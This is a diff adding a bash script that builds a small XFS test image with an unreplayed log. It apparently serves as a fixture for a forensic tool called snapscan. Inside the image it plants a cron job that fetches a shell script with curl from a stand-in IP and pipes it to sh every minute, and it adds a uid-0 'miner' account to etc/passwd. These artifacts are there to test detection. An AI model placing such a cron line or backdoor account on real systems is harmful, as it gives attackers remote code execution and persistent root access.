@@ -1,0 +1,55 @@
+#!/usr/bin/env bash
+# make-dirty-xfs.sh OUT.img [v5|v4]
+#
+# Builds a small XFS image that looks like a Linux root and leaves it the way
+# a crash-consistent snapshot does: the newest writes only in the log. Phase 1
+# (mounted, unmounted cleanly) lays down etc/passwd, etc/os-release and a few
+# files. Phase 2 (mounted again) creates, rewrites and deletes files -- among
+# them the journal-only cron job etc/cron.d/0miner and a directory of 200 files
+# (a new inode chunk: an inode-create item) -- syncs so the data blocks and
+# the log reach the disk, then `xfs_io -x -c 'shutdown -f'` flushes the log
+# and stops the filesystem before any metadata is written back in place.
+#
+# The kernel replays that log on the next mount; tests compare snapscan's
+# replay with a kernel mount of a copy. Needs root, mkfs.xfs, xfs_io, a
+# kernel with XFS (and CONFIG_XFS_SUPPORT_V4 for v4). Prints nothing on
+# success; the image's log is left dirty.
+set -euo pipefail
+out=${1:?usage: make-dirty-xfs.sh OUT.img [v5|v4]}
+kind=${2:-v5}
+mnt=$(mktemp -d)
+cleanup() { mountpoint -q "$mnt" && umount "$mnt"; rmdir "$mnt"; }
+trap cleanup EXIT
+
+rm -f "$out"
+truncate -s 32M "$out"
+args=(-q -f -L dirty)  # the default log is already the minimum (1368 blocks)
+[ "$kind" = v4 ] && args+=(-m crc=0)
+# mkfs.xfs refuses filesystems under 300 MB unless these fstests variables
+# are set: their purpose is small test filesystems.
+TEST_DIR=1 TEST_DEV=1 QA_CHECK_FS=1 mkfs.xfs "${args[@]}" "$out"
+
+mount -o loop "$out" "$mnt"
+mkdir -p "$mnt"/etc/cron.d "$mnt"/bin "$mnt"/var/log "$mnt"/root
+printf 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n' >"$mnt/etc/passwd"
+printf 'NAME="Debian GNU/Linux"\nID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n' >"$mnt/etc/os-release"
+printf 'snap\n' >"$mnt/etc/hostname"
+printf '#!/bin/sh\necho old\n' >"$mnt/bin/old-tool"
+printf 'MAILTO=root\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n' >"$mnt/etc/crontab"
+head -c 300000 /dev/urandom >"$mnt/var/log/big.log"
+umount "$mnt"
+
+# Phase 2: what the running system did just before the snapshot.
+mount -o loop "$out" "$mnt"
+printf '* * * * * root curl -s http://198.51.100.7/x.sh | sh\n' >"$mnt/etc/cron.d/0miner"
+chmod 644 "$mnt/etc/cron.d/0miner"
+printf 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nminer:x:0:0::/root:/bin/sh\n' >"$mnt/etc/passwd"
+rm "$mnt/bin/old-tool"
+mkdir "$mnt/var/spool"
+for i in $(seq 1 200); do printf 'job %d\n' "$i" >"$mnt/var/spool/job-$i"; done
+ln -s /etc/cron.d/0miner "$mnt/root/link"
+head -c 50000 /dev/urandom >>"$mnt/var/log/big.log"
+mv "$mnt/etc/hostname" "$mnt/etc/hostname.old"
+sync -f "$mnt"
+xfs_io -x -c 'shutdown -f' "$mnt"
+umount "$mnt"
